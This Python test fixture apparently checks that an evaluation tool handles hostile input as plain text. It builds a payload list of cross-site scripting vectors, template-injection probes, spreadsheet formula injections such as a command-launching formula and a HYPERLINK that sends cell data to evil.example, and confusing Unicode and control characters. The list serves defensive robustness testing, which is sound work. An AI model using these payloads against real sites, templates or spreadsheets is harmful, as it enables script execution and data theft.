"""Texts that would run, load, steer or compute wherever they are not taken as texts, and a judgement full of them."""

import html
from functools import cache
from itertools import product
from urllib.parse import quote

from spantune.data import Example, Span
from spantune.evaluation import judge
from spantune.evaluation.cases import Given

RUN = "document.title='owned'"
_ELEMENTS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "style", "iframe", "marquee")
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "ONMOUSEOVER")
_WHOLE = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<a href=javascript:{RUN}>a</a>",
    f'<a href="data:text/html,<script>{RUN}</script>">a</a>',
    "<style>@import url(//evil.example/x.css)</style>",
    "<img src=//evil.example/pixel.png>",
    "<textarea><plaintext><xmp><noscript><template>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<!doctype html><html><head><title>owned</title></head>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!-- an open comment",
    "<tag-that-never-ends attribute='",
)
_ENCODED = {
    "plain": lambda text: text,
    "upper case": str.upper,
    "entities": html.escape,
    "numbers": lambda text: "".join(f"&#{ord(one)};" for one in text),
    "percent": quote,
    "escapes": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    "full width": lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
    "halves": lambda text: text.replace("<", "\ud83d<\x00"),
}
_CLOSING = (
    "</style>",
    "</title>",
    "</mark>",
    "</bdi></td></tr></table>",
    "</script>",
    "</div></article></section></main></body></html>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    '" onmouseover="',
    "' autofocus onfocus='",
    '" style="background:url(//evil.example)" x="',
    " onclick=alert(1) ",
    "/>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{# comment #}",
    "{%- raw -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{{{html}}}",
    "%(title)s {0} {title!r} %s %n",
)
_CHARACTERS = (
    "right \u202eto left\u202c end",
    "\u2066isolated\u2069 \u200f\u200e\u061c",
    "\x00\x01\x08\x0b\x0c\x0e\x1b[2J\x1b]0;owned\x07\x7f",
    "\x80\x85\x90\x9b\x9f",
    "\ud800 alone",
    "alone \udfff",
    "\udfff\ud800 the wrong way round",
    "line\u2028separator\u2029paragraph",
    "carriage\rreturn\r\nline\nfeed",
    "a\ufeffb\u200bc\u00add\u2060e",
    "\U000e0041\U000e007f tags",
    "Z\u0351\u0346\u0300a\u0301\u0302l\u0303g\u0304o\u0305" * 3,
    "\ufdd0 \uffff \U0010ffff",
    "ＳＣＲＩＰＴ ﹤b﹥ ‹b› ˂b˃",
    "ſcript ıframe K",
    "𝕊𝕔𝕣𝕚𝕡𝕥 <𝗯>",
    "\u3164\u115f\u17b4 filler",
    "👩‍👩‍👧‍👦 می‌خواهم",
    "a" + "\u0301" * 60,
    "\t tab \v and \f",
)
_MARKDOWN = (
    "[a](javascript:alert(1))",
    "![a](//evil.example/x.png)",
    "[a]: //evil.example",
    "<https://evil.example>",
    "# heading",
    "- item",
    "1. item",
    "> quotation",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "`code`",
    "**bold** __bold__ ~~struck~~",
    "| a | b |",
    "|---|---|\n| a | b |",
    "\\| a \\\\| b \\",
    "\\",
    "a\n\n# heading\n\n<b>b</b>",
    "---",
    "[x] [^1] [[wiki]]",
    "&lt;b&gt; &amp; &copy; &#60;",
    "<b>bold</b>",
    "<br>",
)
_LEADS = ("", "\t", "\r", " ", "\n", "\xa0", '"', "'")
_FORMULAS = ("=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", '=HYPERLINK("//evil.example?x="&A1;"a")')
_CELLS = ("=1+1", "-2+3+cmd|' /C calc'!A0", '=1";=1+1', "a,=1+1", "a;=1+1", "a\n=1+1", "a\r=1+1", "==", "=", "+", "-", "@")
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(f"<{element} {handler}={RUN}>" for element, handler in product(_ELEMENTS, _HANDLERS)),
            *(encode(text) for text, encode in product(_WHOLE, _ENCODED.values())),
            *(f"{closing}<script>{RUN}</script>" for closing in _CLOSING),
            *(f"{closing}<img src=x onerror={RUN}>" for closing in _CLOSING),
            *_CLOSING,
            *_TEMPLATES,
            *_CHARACTERS,
            *_MARKDOWN,
            *(lead + formula for lead, formula in product(_LEADS, _FORMULAS)),
            *_CELLS,
        ]
    )
)


@cache
def hostile(payloads):
    """A judgement of questions in which each payload is id, question, context, label, answer and document; all are wrong."""
    rows, said = [], []
    for payload in payloads:
        context = f"{payload} then unrelated words. {payload}"
        spans = (Span(payload, 0), Span("unrelated", context.index("unrelated words")))
        rows.append(Example(payload, payload, context, spans, payload, fields=((payload, payload),)))
        said.append(Given(payload, f"{payload} is what it says", probability=0.95))
    return judge(rows, said)
